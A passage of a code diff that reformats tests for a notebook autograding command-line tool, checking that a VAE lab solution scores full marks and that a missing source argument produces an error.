     assert.strictEqual(r.status, 0, r.stderr);
     const results = JSON.parse(fs.readFileSync(path.join(exportDir, 'results', 'results.json'), 'utf8'));
     assert.deepStrictEqual(validateResults(results), []);
@@ -553,10 +789,26 @@ describe('grading: the real labs', function () {
 
   it('autograde the 03-vae solution through the CLI', () => {
     const out = path.join(WORK, 'cli');
-    const r = spawnSync(process.execPath, [path.join(ROOT, 'dist', 'grading', 'cli.js'), 'autograde', path.join(ROOT, 'notebooks', '03-vae.ipynb'), '--source', path.join(ROOT, 'notebooks', '03-vae.ipynb'), '--out', out], { encoding: 'utf8', timeout: 300000 });
+    const r = spawnSync(
+      process.execPath,
+      [
+        path.join(ROOT, 'dist', 'grading', 'cli.js'),
+        'autograde',
+        path.join(ROOT, 'notebooks', '03-vae.ipynb'),
+        '--source',
+        path.join(ROOT, 'notebooks', '03-vae.ipynb'),
+        '--out',
+        out,
+      ],
+      { encoding: 'utf8', timeout: 300000 },
+    );
     assert.strictEqual(r.status, 0, r.stderr);
     assert.match(r.stdout, /Score: 9 \/ 9 points from 4 automatic tests \(4 passed\)/);
-    const bad = spawnSync(process.execPath, [path.join(ROOT, 'dist', 'grading', 'cli.js'), 'autograde', 'x.ipynb', '--out', out], { encoding: 'utf8' });
+    const bad = spawnSync(
+      process.execPath,
+      [path.join(ROOT, 'dist', 'grading', 'cli.js'), 'autograde', 'x.ipynb', '--out', out],
+      { encoding: 'utf8' },
+    );
     assert.strictEqual(bad.status, 1);
     assert.match(bad.stderr, /^genlab-grade: missing --source <source.ipynb>\./);
   });
